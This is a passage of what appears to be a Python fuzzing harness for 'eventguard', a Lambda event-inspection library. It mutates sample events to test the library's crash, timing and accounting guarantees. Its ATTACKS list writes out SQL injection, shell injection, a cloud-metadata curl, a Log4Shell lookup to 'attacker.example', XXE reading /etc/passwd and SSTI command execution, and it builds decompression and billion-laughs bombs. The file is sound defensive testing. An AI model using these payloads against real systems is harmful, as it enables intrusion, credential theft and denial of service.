#!/usr/bin/env python3
"""Fuzzing of eventguard's runtime: ``inspect`` and the wrapper over mutated real events.

    bench/fuzz.py --seconds N [--shared PATH] [--engine auto|atheris|random] [--seed S]
    bench/fuzz.py --replay .fuzz/crash-<id>.json

Seeds are the sample events of ``tests/events/`` and ``tests/hardening/seeds/`` (and
``PATH/events`` or ``PATH`` with ``--shared``). Each input is a seed put through one to four
structure-aware mutations (attack payloads, encodings and bombs in attacker-controlled fields,
type confusion, deep nesting, many fields, hostile characters, byte flips). The engine decides
the mutations: with atheris (coverage-guided libFuzzer, run in a child process so its summary
survives libFuzzer's exit) the fuzzer's bytes drive every choice; without it a seeded random
loop does. Each input goes through ``inspect`` and through ``wrapper.handler`` (policy block /
closed, quarantine kept in memory), and must:

- raise nothing (``Blocked`` and ``RetryBatch``, the wrapper's documented hand-backs to the
  platform, are counted apart);
- return a ``Verdict`` with short, printable excerpts and record indexes inside the batch;
- account for every batch record: passed to the handler, quarantined or reported failed;
- finish within ``BASE_SECONDS + SECONDS_PER_KB * size``.

Prints one JSON object: engine, executions, time, crashes (deduplicated, each with a reproducer
under ``.fuzz/``), slow inputs, the slowest time per KB, peak RSS.
"""

from __future__ import annotations

import argparse
import base64
import contextlib
import gzip
import hashlib
import json
import os
import random
import resource
import subprocess
import sys
import tempfile
import threading
import time
import traceback
import urllib.parse
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, Protocol

ROOT = Path(__file__).resolve().parent.parent
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

SEED_DIRS = (ROOT / "tests" / "events", ROOT / "tests" / "hardening" / "seeds")
OUT_DIR = ROOT / ".fuzz"
BASE_SECONDS = 1.5  # any input may take this long (inspect budget 0.5 s + wrapper + noise)
SECONDS_PER_KB = 0.002  # and this much more per KB of input
MEMORY_FACTOR = 64  # an input may raise the peak RSS by this many times its size
MEMORY_SLACK_MB = 128  # plus this much
BIG_OP_ODDS = 40  # one mutation in this many may build a large input (MBs, 100k fields)


# --------------------------------------------------------------------------- choices


class Chooser(Protocol):
    """Where a mutation's choices come from: a seeded PRNG or the fuzzer's bytes."""

    def below(self, n: int) -> int: ...

    def raw(self, n: int) -> bytes: ...


class RandomChooser:
    """Choices from a ``random.Random``."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng

    def below(self, n: int) -> int:
        return self.rng.randrange(n) if n > 1 else 0

    def raw(self, n: int) -> bytes:
        return self.rng.randbytes(n)


class BytesChooser:
    """Choices read from a byte string (atheris/libFuzzer input); zeros once it runs out."""

    def __init__(self, data: bytes) -> None:
        self.data = data
        self.pos = 0

    def _take(self, n: int) -> bytes:
        chunk = self.data[self.pos : self.pos + n]
        self.pos += n
        return chunk + b"\0" * (n - len(chunk))

    def below(self, n: int) -> int:
        if n <= 1:
            return 0
        width = 1 if n <= 256 else 2 if n <= 65536 else 4
        return int.from_bytes(self._take(width), "little") % n

    def raw(self, n: int) -> bytes:
        return self._take(n)


def pick(ch: Chooser, items: list[Any] | tuple[Any, ...]) -> Any:
    return items[ch.below(len(items))]


# --------------------------------------------------------------------------- payloads

ATTACKS = (
    "1' OR '1'='1' -- ",
    "1; DROP TABLE users--",
    "admin'/**/UNION/**/SELECT/**/password/**/FROM/**/users#",
    '{"$where": "sleep(1000)"}',
    '{"username": {"$ne": null}}',
    "; cat /etc/passwd",
    "$(curl http://169.254.169.254/latest/meta-data/)",
    "`id`",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "<script>alert(document.cookie)</script>",
    '<img src=x onerror="alert(1)">',
    "javascript:alert(1)",
    "{{7*7}}{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "${jndi:ldap://attacker.example/a}",
    "${${lower:j}ndi:${lower:l}dap://x/a}",
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
    "__import__('os').system('id')",
    "eval(compile('import os','x','exec'))",
    '{"__proto__": {"isAdmin": true}}',
    "*)(uid=*))(|(uid=*",
    "http://127.0.0.1:8080/admin",
    "line1\r\nSet-Cookie: session=evil",
    'O:8:"stdClass":0:{}',
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
)
HOSTILE = (
    "",
    "\n",
    '\n{"level":"INFO","type":"forged","user":"admin"}\n',
    "\r\n\x1b[31mred\x1b[0m\x00\x07\x08",
    "\ud800",
    "\udfff\ud800x",
    "a\udcff\udc80b",
    "\ufeff\u202e\u200b\u2028\u2029",
    "\U0010ffff\U0001f600",
    "%",
    "%%%25%2",
    "&#",
    "&#x110000;&#0;&#99999999999;",
    "\\u",
    "\\ud800\\u0000\\x",
    "=?utf-8?b?invalid?=",
    "====",
    "A===",
    "not/base64!!",
    "{",
    "[",
    '{"a":1,"a":"<script>x</script>","a":{"a":2}}',
    "1" * 5000,
    "1e999999",
    "-0",
    "[" * 50 + "]" * 50,
    "NaN",
    "<" * 40,
    "<a " * 40,
    "\\" * 200,
)
REDOS = ("'", "<", "(", "%", "%25", "&#", "\\u00", "a", "/*", "--", "${", "{{", " OR ", "\\", "=")


def _gzip(data: bytes) -> bytes:
    return gzip.compress(data, compresslevel=9, mtime=0)


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode("ascii")


_BOMBS: dict[str, str] = {}


def bombs() -> dict[str, str]:
    """Compressed and encoded bombs, built once (a few MB of work)."""
    if not _BOMBS:
        zeros = b"\0" * (20 * 1024 * 1024)
        _BOMBS["gzip_20mb_zeros"] = _b64(_gzip(zeros))
        _BOMBS["zlib_20mb_a"] = _b64(zlib.compress(b"A" * (20 * 1024 * 1024), 9))
        _BOMBS["gzip_of_gzip"] = _b64(_gzip(_gzip(zeros)))
        _BOMBS["gzip_json_array"] = _b64(_gzip(b"[" + b"1," * 2_000_000 + b"1]"))
        _BOMBS["gzip_many_members"] = _b64(b"".join(_gzip(b"x" * 60_000) for _ in range(400)))
        _BOMBS["gzip_truncated"] = _b64(_gzip(b"hello " * 5000)[:-9])
        _BOMBS["gzip_bad_crc"] = _b64(_gzip(b"hello")[:-8] + b"\0" * 8)
        _BOMBS["gzip_invalid_utf8"] = _b64(_gzip(b"\xff\xfe\xc3(\xa0\xa1" * 1000))
        _BOMBS["base64_invalid_utf8"] = _b64(b"\xff\xfe\xc3(\xa0\xa1\xed\xa0\x80" * 10)
        nested = b"<script>alert(1)</script>"
        for _ in range(12):
            nested = _b64(nested).encode()
        _BOMBS["base64_12_deep"] = nested.decode()
        text: Any = "' OR 1=1 --"
        for _ in range(12):
            text = json.dumps({"v": text})
        _BOMBS["json_in_json_12_deep"] = text
        _BOMBS["json_10000_deep"] = "[" * 10_000 + "]" * 10_000
        _BOMBS["json_obj_10000_deep"] = '{"a":' * 10_000 + "1" + "}" * 10_000
        _BOMBS["xml_deep"] = "<a>" * 5_000 + "x" + "</a>" * 5_000
        _BOMBS["xml_billion_laughs"] = (
            '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">'
            + "".join(
                f'<!ENTITY {c} "{("&" + p + ";") * 10}">'
                for p, c in zip("abcdefgh", "bcdefghi", strict=True)
            )
            + "]><l>&i;</l>"
        )
        _BOMBS["multipart_many_parts"] = (
            "".join(
                f'--b\r\nContent-Disposition: form-data; name="f{i}"\r\n\r\nv\r\n'
                for i in range(5000)
            )
            + "--b--\r\n"
        )
        _BOMBS["form_many_pairs"] = "&".join(f"k{i}=v" for i in range(150_000))
        _BOMBS["url_deep_encoding"] = urllib.parse.quote(
            urllib.parse.quote(urllib.parse.quote(urllib.parse.quote("<script>x</script>")))
        )
    return _BOMBS


def encode_payload(ch: Chooser, text: str) -> str:
    """``text`` wrapped in one of the encodings the runtime decodes (or none)."""
    data = text.encode("utf-8", "surrogatepass")
    kind = ch.below(12)
    if kind == 0:
        return _b64(data)
    if kind == 1:
        return base64.urlsafe_b64encode(data).decode().rstrip("=")
    if kind == 2:
        return _b64(_gzip(data))
    if kind == 3:
        return urllib.parse.quote(text, safe="", errors="surrogatepass")
    if kind == 4:
        return urllib.parse.quote(urllib.parse.quote(text, safe="", errors="surrogatepass"))
    if kind == 5:
        return "".join(f"&#x{ord(c):x};" for c in text)
    if kind == 6:
        return "".join(f"\\u{ord(c):04x}" for c in text)
    if kind == 7:
        return json.dumps({"q": text, "nested": [text]})
    if kind == 8:
        return f"<r a='{text}'><b>{text}</b></r>"
    if kind == 9:
        return f"a=1&q={urllib.parse.quote_plus(text, errors='surrogatepass')}&q=2"
    if kind == 10:
        return f'--XyZ\r\nContent-Disposition: form-data; name="f"\r\n\r\n{text}\r\n--XyZ--\r\n'
    return text


def new_string(ch: Chooser, big: bool) -> str:
    """A hostile string: attack, encoded attack, bomb, pathological repeat or random text."""
    kind = ch.below(8)
    if kind == 0:
        return pick(ch, ATTACKS)
    if kind == 1:
        return encode_payload(ch, pick(ch, ATTACKS))
    if kind == 2:
        return pick(ch, HOSTILE)
    if kind == 3:
        found = bombs()
        names = sorted(k for k, v in found.items() if big or len(v) <= 64 * 1024)
        return found[pick(ch, names)]
    if kind == 4:
        unit = pick(ch, REDOS)
        count = (1 << ch.below(21 if big else 14)) + ch.below(7)
        return unit * count + pick(ch, ("", "!", "x", "\n", ATTACKS[0]))
    if kind == 5:
        raw = ch.raw(ch.below(64) + 1)
        return raw.decode("utf-8", "surrogateescape")
    if kind == 6:
        return encode_payload(ch, pick(ch, HOSTILE))
    if big:
        size = pick(ch, (1024 * 1024, 1024 * 1024 + 1, 3 * 1024 * 1024, 6 * 1024 * 1024))
        return (pick(ch, ATTACKS) + " ") * (size // 30)
    return pick(ch, ATTACKS) * (ch.below(64) + 1)


# --------------------------------------------------------------------------- locations


def locations(value: Any, limit: int = 5000) -> list[tuple[Any, Any]]:
    """(container, key) of the nodes below ``value``, iteratively, at most ``limit``."""
    out: list[tuple[Any, Any]] = []
    stack = [value]
    while stack and len(out) < limit:
        node = stack.pop()
        if isinstance(node, dict):
            for key, item in node.items():
                out.append((node, key))
                stack.append(item)
        elif isinstance(node, list):
            for i, item in enumerate(node):
                out.append((node, i))
                stack.append(item)
    return out


def copy(value: Any) -> Any:
    """A deep copy of JSON-like data that survives any depth."""
    if not isinstance(value, dict | list):
        return value
    root: Any = {} if isinstance(value, dict) else []
    stack = [(value, root)]
    while stack:
        src, dst = stack.pop()
        items = src.items() if isinstance(src, dict) else enumerate(src)
        for key, item in items:
            if isinstance(item, dict | list):
                child: Any = {} if isinstance(item, dict) else []
                stack.append((item, child))
            else:
                child = item
            if isinstance(dst, dict):
                dst[key] = child
            else:
                dst.append(child)
    return root


def deep(depth: int, leaf: Any, as_list: bool, key_chars: int = 1) -> Any:
    """``leaf`` inside ``depth`` lists or objects (keys of ``key_chars`` characters)."""
    value = leaf
    for level in range(depth):
        value = [value] if as_list else {f"{level}".ljust(key_chars, "k"): value}
    return value


# --------------------------------------------------------------------------- mutations


class Mutator:
    """Structure-aware mutations of JSON events, every choice taken from a ``Chooser``."""

    def __init__(self, seeds: list[tuple[str, Any]]) -> None:
        self.seeds = seeds
        self.big_odds = BIG_OP_ODDS  # 0: never build a large input
        discriminators: set[str] = set()
        for _, event in seeds:
            for container, key in locations(event):
                if key in ("eventSource", "EventSource", "source", "version", "eventName"):
                    item = container[key]
                    if isinstance(item, str):
                        discriminators.add(item)
        self.discriminators = sorted(discriminators) or ["aws:sqs"]

    def seed(self, ch: Chooser) -> tuple[str, Any]:
        name, event = self.seeds[ch.below(len(self.seeds))]
        return name, copy(event)

    def mutate(self, ch: Chooser) -> tuple[str, Any]:
        """A seed and the event made of it by one to four stacked mutations."""
        name, event = self.seed(ch)
        ops = [] if ch.below(16) == 0 else range(1 + ch.below(4))
        for _ in ops:
            event = self.once(ch, event)
        return name, event

    def once(self, ch: Chooser, event: Any) -> Any:
        big = self.big_odds > 0 and ch.below(self.big_odds) == 0
        op = ch.below(14)
        if op == 0 or not isinstance(event, dict | list):
            return self._whole(ch, event)
        spots = locations(event)
        if not spots:
            return self._whole(ch, event)
        strings = [(c, k) for c, k in spots if isinstance(c[k], str)]
        if op <= 5 and strings:
            container, key = pick(ch, strings)
            container[key] = self._string(ch, container[key], big)
            return event
        container, key = pick(ch, spots)
        if op == 6:
            container[key] = pick(
                ch, (None, 0, -1, 2**70, -(2**63), 1.5e308, True, "", [], {}, [None], {"": ""})
            )
        elif op == 7 and isinstance(container, dict):
            del container[key]
        elif op == 7 and isinstance(container, list) and container:
            item = container[key]
            container.extend(copy(item) for _ in range(pick(ch, (1, 9, 99, 999))))
        elif op == 8:
            depth = pick(ch, (63, 64, 65, 200, 999, 10_000)) if big else ch.below(80)
            key_chars = pick(ch, (1, 1, 1, 64, 1000))
            if key_chars > 1 and not big:  # long keys over many leaves: paths amplify
                leaves = {f"l{i}": "v" for i in range(pick(ch, (10, 500, 2000)))}
                container[key] = deep(min(depth, 60), leaves, False, key_chars)
            else:
                container[key] = deep(depth, container[key], bool(ch.below(2)))
        elif op == 9 and isinstance(container, dict):
            value = container.pop(key)
            container[self._string(ch, str(key), False)] = value
        elif op == 10:
            count = pick(ch, (1000, 99_999, 100_000, 100_001, 250_000)) if big else ch.below(200)
            container[key] = {f"k{i}": "v" for i in range(count)}
        elif op == 11:
            other = self.seed(ch)[1]
            others = locations(other)
            if others:
                src, skey = pick(ch, others)
                container[key] = src[skey]
        elif op == 12:
            container[key] = pick(ch, self.discriminators)
        else:
            container[key] = self._string(ch, "", big)
        return event

    def _string(self, ch: Chooser, current: str, big: bool) -> str:
        kind = ch.below(5)
        if kind == 0 and current:
            chars = list(current)
            for _ in range(1 + ch.below(4)):
                at = ch.below(len(chars) + 1)
                flip = ch.below(3)
                if flip == 0 and chars:
                    del chars[min(at, len(chars) - 1)]
                else:
                    chars.insert(at, chr(ch.below(0x110000)))
            return "".join(chars)
        if kind == 1:
            return current + new_string(ch, big)
        return new_string(ch, big)

    def _whole(self, ch: Chooser, event: Any) -> Any:
        kind = ch.below(9)
        if kind == 0:
            return [event]
        if kind == 1:
            return dump(event) if ch.below(2) else new_string(ch, False)
        if kind == 2:
            return pick(ch, (None, 0, -1, 2**64, 3.14, True, "", [], {}))
        if kind == 3:
            return deep(pick(ch, (65, 1000, 10_000)), event, bool(ch.below(2)))
        if kind == 4:
            try:
                text = json.dumps(event)
            except (ValueError, RecursionError):
                return event
            raw = bytearray(text.encode("utf-8", "surrogatepass"))
            for _ in range(1 + ch.below(8)):
                if raw:
                    raw[ch.below(len(raw))] = ch.below(256)
            try:
                return json.loads(raw.decode("utf-8", "surrogateescape"))
            except (ValueError, RecursionError):
                return raw.decode("utf-8", "replace")
        if kind == 5 and isinstance(event, dict):
            return {**event, **{new_string(ch, False): new_string(ch, False) for _ in range(3)}}
        if kind == 6:
            return {"Records": [event] * (1 + ch.below(50))}
        return self.seed(ch)[1]


# --------------------------------------------------------------------------- seeds


def load_seeds(shared: Path | None = None) -> list[tuple[str, Any]]:
    """Every sample event: ``tests/events``, ``tests/hardening/seeds``, then the shared set."""
    dirs = list(SEED_DIRS)
    if shared is not None:
        dirs.append(shared / "events" if (shared / "events").is_dir() else shared)
    seeds: list[tuple[str, Any]] = []
    for folder in dirs:
        if not folder.is_dir():
            continue
        for path in sorted(folder.rglob("*.json")):
            if path.name == "index.json":
                continue
            try:
                event = json.loads(path.read_text(encoding="utf-8"))
            except (OSError, ValueError):
                continue
            seeds.append((str(path.relative_to(folder.parent)), event))
    return seeds


# --------------------------------------------------------------------------- sizes and files


def approx_size(value: Any, limit: int = 1 << 34) -> int:
    """Bytes of the value as JSON, near enough, without recursion (any depth)."""
    total = 0
    stack = [value]
    while stack and total < limit:
        node = stack.pop()
        if isinstance(node, str):
            total += len(node) + 2
        elif isinstance(node, dict):
            total += 2
            for key, item in node.items():
                total += len(str(key)) + 4
                stack.append(item)
        elif isinstance(node, list):
            total += 2 + len(node)
            stack.extend(node)
        else:
            total += len(repr(node))
    return total


def dump(value: Any) -> str:
    """JSON text of any depth (iterative), lone surrogates escaped."""
    parts: list[str] = []
    stack: list[Any] = [value]
    while stack:
        node = stack.pop()
        if isinstance(node, _Raw):
            parts.append(node.text)
        elif isinstance(node, dict):
            parts.append("{")
            pending: list[Any] = []
            for i, (key, item) in enumerate(node.items()):
                pending.append(_Raw(("," if i else "") + json.dumps(str(key)) + ":"))
                pending.append(item)
            pending.append(_Raw("}"))
            stack.extend(reversed(pending))
        elif isinstance(node, list):
            parts.append("[")
            pending = []
            for i, item in enumerate(node):
                if i:
                    pending.append(_Raw(","))
                pending.append(item)
            pending.append(_Raw("]"))
            stack.extend(reversed(pending))
        else:
            parts.append(json.dumps(node))
    return "".join(parts)


class _Raw:
    __slots__ = ("text",)

    def __init__(self, text: str) -> None:
        self.text = text


def load_deep(text: str) -> Any:
    """Parse JSON of any depth (a reproducer may hold 10,000 levels)."""
    result: list[Any] = []
    errors: list[BaseException] = []

    def run() -> None:
        limit = sys.getrecursionlimit()
        sys.setrecursionlimit(200_000)
        try:
            result.append(json.loads(text))
        except BaseException as exc:
            errors.append(exc)
        finally:
            sys.setrecursionlimit(limit)

    size = threading.stack_size()
    threading.stack_size(512 * 1024 * 1024)
    try:
        worker = threading.Thread(target=run)
        worker.start()
        worker.join()
    finally:
        threading.stack_size(size)
    if errors:
        raise errors[0]
    return result[0]


# --------------------------------------------------------------------------- the target


class Invariant(AssertionError):
    """The runtime returned, but what it returned breaks a contract."""


class Context:
    """The parts of a Lambda context object the wrapper reads."""

    aws_request_id = "fuzz-request-0001"
    function_name = "fuzz"
    invoked_function_arn = "arn:aws:lambda:us-east-1:123456789012:function:fuzz"

    def get_remaining_time_in_millis(self) -> int:
        return 30_000


def refused(exc: BaseException) -> bool:
    """Raised by a source's ``blocked_response``: its documented way to refuse (Cognito)."""
    frames = traceback.extract_tb(exc.__traceback__)
    return any(f.name == "blocked_response" and "sources" in f.filename for f in frames)


class Harness:
    """Runs one event through ``inspect`` and the wrapper and checks the contracts."""

    def __init__(self) -> None:
        import io

        from eventguard.runtime import Verdict, inspect, sources, wrapper
        from eventguard.runtime.limits import EXCERPT_CHARS
        from eventguard.runtime.policy import Policy
        from eventguard.runtime.quarantine import Quarantine
        from eventguard.runtime.seclog import SecurityLog

        self.inspect = inspect
        self.verdict_type = Verdict
        self.sources = sources
        self.wrapper = wrapper
        self.excerpt_chars = EXCERPT_CHARS
        self.kept: list[dict[str, Any]] = []
        self.seen: list[Any] = []
        self.log = io.StringIO()

        def user_handler(event: Any, context: Any) -> Any:
            self.seen.append(event)
            return None

        def send(queue_url: str, body: str) -> None:
            self.kept.append(json.loads(body))

        self.configure = lambda: wrapper.configure(
            policy=Policy(function="fuzz", mode="block", failure_mode="closed"),
            user_handler=user_handler,
            quarantine=Quarantine(queue_url="https://sqs.fuzz/q", function="fuzz", send=send),
            log=SecurityLog(stream=self.log),
        )
        self.configure()
        allowed: list[type[BaseException]] = [wrapper.Blocked]
        try:
            from eventguard.runtime.sources._batch import RetryBatch

            allowed.append(RetryBatch)
        except ImportError:
            pass
        self.allowed = tuple(allowed)
        self.handed_back = 0
        self.refused = 0

    def check_verdict(self, event: Any, verdict: Any) -> None:
        if not isinstance(verdict, self.verdict_type):
            raise Invariant(f"inspect returned {type(verdict).__name__}, not a Verdict")
        if verdict.source not in self.sources.BY_ID:
            raise Invariant(f"unknown source id {verdict.source!r}")
        module = self.sources.BY_ID[verdict.source]
        count = None
        if getattr(module, "KIND", "") == "batch" and isinstance(event, dict):
            count = len(module.records(event))
        for finding in verdict.findings:
            # escaping may grow the EXCERPT_CHARS cut up to 6 times (\uXXXX): still bounded
            if len(finding.excerpt) > 6 * self.excerpt_chars + 8:
                raise Invariant(f"excerpt of {len(finding.excerpt)} chars at {finding.path}")
            if not all(32 <= ord(c) < 127 for c in finding.excerpt):
                raise Invariant(f"excerpt with a control or non-ASCII char: {finding.excerpt!r}")
            if finding.record is not None and count is not None and not 0 <= finding.record < count:
                raise Invariant(f"finding record {finding.record} outside a batch of {count}")
        if count is not None and any(not 0 <= i < count for i in verdict.blocked_records):
            raise Invariant(f"blocked_records {sorted(verdict.blocked_records)} outside {count}")

    def check_accounting(self, event: Any, verdict: Any, response: Any) -> None:
        """Every batch record was handled, quarantined or reported failed."""
        module = self.sources.BY_ID.get(verdict.source)
        if module is None or getattr(module, "KIND", "") != "batch" or not isinstance(event, dict):
            return
        records = module.records(event)
        handled: set[int] = set()
        # records by identity; one object may stand for several (None twice, a dict listed
        # twice): each time the handler sees it accounts for one of them
        ids: dict[int, list[int]] = {}
        for i, r in enumerate(records):
            ids.setdefault(id(r), []).append(i)
        for seen in self.seen:
            if isinstance(seen, dict):
                for record in module.records(seen):
                    waiting = ids.get(id(record))
                    if waiting:
                        handled.add(waiting.pop(0))
        kept = {m.get("record") for m in self.kept if isinstance(m.get("record"), int)}
        failed_ids: set[str] = set()
        if isinstance(response, dict) and isinstance(response.get("batchItemFailures"), list):
            failed_ids = {
                str(f.get("itemIdentifier"))
                for f in response["batchItemFailures"]
                if isinstance(f, dict)
            }
        elif response is not None:
            return  # a source with its own response shape (Firehose): not checked here
        item_id = getattr(module, "item_id", None)
        for i, record in enumerate(records):
            if i in handled or i in kept:
                continue
            if item_id is not None and isinstance(record, dict):
                try:
                    if str(item_id(record)) in failed_ids:
                        continue
                except Exception:
                    pass
            raise Invariant(f"record {i} of {len(records)} neither handled, kept nor failed")

    def run(self, event: Any) -> float:
        """Seconds of the slower call (``inspect`` or the wrapper); raises on a crash or a broken
        contract."""
        started = time.perf_counter()
        verdict = self.inspect(event)
        inspected = time.perf_counter() - started
        self.check_verdict(event, verdict)
        self.kept.clear()
        self.seen.clear()
        self.log.seek(0)
        self.log.truncate()
        started = time.perf_counter()
        try:
            response = self.wrapper.handler(event, Context())
        except self.allowed:
            self.handed_back += 1
        except Exception as exc:
            if not (verdict.blocked and refused(exc)):
                raise
            self.refused += 1
        else:
            self.check_accounting(event, verdict, response)
        wrapped = time.perf_counter() - started
        self.check_log()
        return max(inspected, wrapped)

    def time_again(self, event: Any, runs: int = 1) -> float:
        """The best of a few more runs: a slow input is confirmed, not a noisy machine."""
        best = float("inf")
        for _ in range(runs):
            try:
                best = min(best, self.run(event))
            except Exception:  # a crash was already recorded
                return best
        return best

    def check_log(self) -> None:
        for line in self.log.getvalue().splitlines():
            try:
                doc = json.loads(line)
            except ValueError:
                raise Invariant(f"log line that is not JSON: {line[:120]!r}") from None
            if not isinstance(doc, dict):
                raise Invariant(f"log line that is not an object: {line[:120]!r}")
            if len(line) > 8192:
                raise Invariant(f"log line of {len(line)} chars")


# --------------------------------------------------------------------------- the loop


def warm_up(harness: Harness, seeds: list[tuple[str, Any]]) -> None:
    """Run a few seeds unmeasured, so lazy imports and regex compilation are not timed."""
    for _, event in seeds[:3]:
        with contextlib.suppress(Exception):
            harness.run(copy(event))
    harness.configure()


class Stats:
    """What a run found; written as the JSON summary."""

    def __init__(self, engine: str, seeds: int, out: Path) -> None:
        self.engine = engine
        self.seeds = seeds
        self.out = out
        self.started = time.perf_counter()
        self.executions = 0
        self.crashes: dict[str, dict[str, Any]] = {}
        self.slow: dict[str, dict[str, Any]] = {}
        self.memory: dict[str, dict[str, Any]] = {}
        self.slowest: dict[str, Any] = {"ms_per_kb": 0.0}
        self.largest_kb = 0.0

    def save(self, kind: str, event: Any, note: str) -> str:
        self.out.mkdir(parents=True, exist_ok=True)
        text = dump(event)
        digest = hashlib.sha1(text.encode("utf-8", "surrogatepass")).hexdigest()[:12]
        path = self.out / f"{kind}-{digest}.json"
        path.write_text(text, encoding="utf-8", errors="surrogatepass")
        path.with_suffix(".txt").write_text(note, encoding="utf-8", errors="backslashreplace")
        return os.path.relpath(path, ROOT)

    def crash(self, seed: str, event: Any, exc: BaseException) -> None:
        frames = traceback.extract_tb(exc.__traceback__)
        inner = [f for f in frames if "eventguard" in f.filename] or frames or []
        where = f"{Path(inner[-1].filename).name}:{inner[-1].lineno}" if inner else "?"
        key = f"{type(exc).__name__}@{where}"
        entry = self.crashes.get(key)
        if entry is None:
            note = f"seed: {seed}\n" + "".join(traceback.format_exception(exc))
            entry = {
                "error": f"{type(exc).__name__}: {str(exc)[:200]}",
                "where": where,
                "seed": seed,
                "reproducer": self.save("crash", event, note),
                "count": 0,
            }
            self.crashes[key] = entry
        entry["count"] += 1

    def timing(
        self, seed: str, event: Any, seconds: float, size: int, again: Callable[[], float]
    ) -> None:
        """Record the time per KB; a new slowest or an input past the bound is re-measured."""
        kb = size / 1024
        self.largest_kb = max(self.largest_kb, kb)
        bound = BASE_SECONDS + SECONDS_PER_KB * kb
        per_kb = seconds * 1000 / max(kb, 1.0)
        if per_kb > self.slowest["ms_per_kb"] or seconds > bound:
            seconds = min(seconds, again())
            per_kb = seconds * 1000 / max(kb, 1.0)
        if per_kb > self.slowest["ms_per_kb"]:
            old = self.slowest.get("reproducer")
            self.slowest = {
                "ms_per_kb": round(per_kb, 3),
                "ms": round(seconds * 1000, 2),
                "kb": round(kb, 1),
                "seed": seed,
            }
            if seconds > 0.05:
                self.slowest["reproducer"] = self.save("slowest", event, f"seed: {seed}\n")
                if old and old != self.slowest["reproducer"]:
                    for stale in (ROOT / old, (ROOT / old).with_suffix(".txt")):
                        stale.unlink(missing_ok=True)
        if seconds > bound:
            note = f"seed: {seed}\n{seconds:.3f} s for {kb:.1f} KB\n"
            path = self.save("slow", event, note)
            self.slow[path] = {"seconds": round(seconds, 3), "kb": round(kb, 1), "seed": seed}

    def summary(self) -> dict[str, Any]:
        elapsed = time.perf_counter() - self.started
        return {
            "engine": self.engine,
            "seeds": self.seeds,
            "executions": self.executions,
            "time": round(elapsed, 2),
            "executions_per_second": round(self.executions / elapsed, 1) if elapsed else 0.0,
            "crashes": sorted(self.crashes.values(), key=lambda c: -c["count"]),
            "slow": [{"reproducer": k, **v} for k, v in self.slow.items()],
            "memory": [{"reproducer": k, **v} for k, v in self.memory.items()],
            "memory_bound": f"peak RSS growth <= {MEMORY_FACTOR} x input + {MEMORY_SLACK_MB} MB",
            "time_bound": f"{BASE_SECONDS} s + {SECONDS_PER_KB * 1000} ms/KB",
            "slowest_ms_per_kb": self.slowest["ms_per_kb"],
            "slowest": self.slowest,
            "largest_input_kb": round(self.largest_kb, 1),
            "peak_rss_mb": round(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024, 1),
        }


def max_rss_bytes() -> int:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024


def execute(harness: Harness, stats: Stats, seed: str, event: Any) -> None:
    """One input: run, time, record a crash or a memory amplification; never raises."""
    size = approx_size(event)
    rss = max_rss_bytes()
    try:
        seconds = harness.run(event)
    except harness.allowed:
        harness.handed_back += 1
        stats.executions += 1
        return
    except (Exception, RecursionError, MemoryError) as exc:
        stats.executions += 1
        stats.crash(seed, event, exc)
        harness.wrapper.reset()
        harness.configure()
        return
    stats.executions += 1
    stats.timing(seed, event, seconds, size, lambda: harness.time_again(event))
    grown = max_rss_bytes() - rss  # the high-water mark moves only on a new peak
    if grown > MEMORY_FACTOR * size + MEMORY_SLACK_MB * 1024 * 1024:
        note = f"seed: {seed}\npeak RSS +{grown >> 20} MB for {size >> 10} KB\n"
        path = stats.save("memory", event, note)
        stats.memory[path] = {"rss_growth_mb": grown >> 20, "kb": size >> 10, "seed": seed}


def inputs_random(mutator: Mutator, seed: int) -> Iterator[tuple[str, Any]]:
    """Seeds unmutated first, then mutated ones from a seeded PRNG."""
    yield from ((name, copy(event)) for name, event in mutator.seeds)
    chooser = RandomChooser(random.Random(seed))
    while True:
        yield mutator.mutate(chooser)


def run_random(seconds: float, shared: Path | None, seed: int, out: Path) -> dict[str, Any]:
    seeds = load_seeds(shared)
    mutator = Mutator(seeds)
    harness = Harness()
    warm_up(harness, seeds)
    stats = Stats("random-mutation", len(seeds), out)
    deadline = time.perf_counter() + seconds
    for name, event in inputs_random(mutator, seed):
        if time.perf_counter() >= deadline:
            break
        execute(harness, stats, name, event)
    result = stats.summary()
    result["seed"] = seed
    result["handed_back_to_platform"] = harness.handed_back
    result["refused_by_source"] = harness.refused
    return result


def atheris_child(seconds: float, shared: Path | None, stats_path: Path, out: Path) -> None:
    """Runs inside the child process: libFuzzer drives the mutator's choices."""
    import atheris

    with atheris.instrument_imports(include=["eventguard"]):
        import eventguard.runtime
        import eventguard.runtime.wrapper  # noqa: F401

    seeds = load_seeds(shared)
    mutator = Mutator(seeds)
    harness = Harness()
    warm_up(harness, seeds)
    stats = Stats("atheris", len(seeds), out)
    written = [time.perf_counter()]

    def flush(force: bool = False) -> None:
        now = time.perf_counter()
        if force or now - written[0] > 1.0:
            written[0] = now
            doc = stats.summary()
            doc["handed_back_to_platform"] = harness.handed_back
            doc["refused_by_source"] = harness.refused
            tmp = stats_path.with_suffix(".tmp")
            tmp.write_text(json.dumps(doc), encoding="utf-8")
            tmp.replace(stats_path)

    def one_input(data: bytes) -> None:
        name, event = mutator.mutate(BytesChooser(data))
        before = len(stats.crashes)
        execute(harness, stats, name, event)
        flush(force=len(stats.crashes) != before)

    atheris.Setup(
        [
            sys.argv[0],
            f"-max_total_time={max(1, int(seconds))}",
            "-timeout=60",
            "-rss_limit_mb=4096",
            "-max_len=512",
            f"-artifact_prefix={out}/",
            "-print_final_stats=1",
        ],
        one_input,
    )
    flush(force=True)
    atheris.Fuzz()


def run_atheris(seconds: float, shared: Path | None, out: Path) -> dict[str, Any]:
    """The atheris engine in a child process; its stats file outlives libFuzzer's exit."""
    out.mkdir(parents=True, exist_ok=True)
    with tempfile.TemporaryDirectory() as tmp:
        stats_path = Path(tmp) / "stats.json"
        args = [sys.executable, __file__, "--atheris-child", "--seconds", str(seconds)]
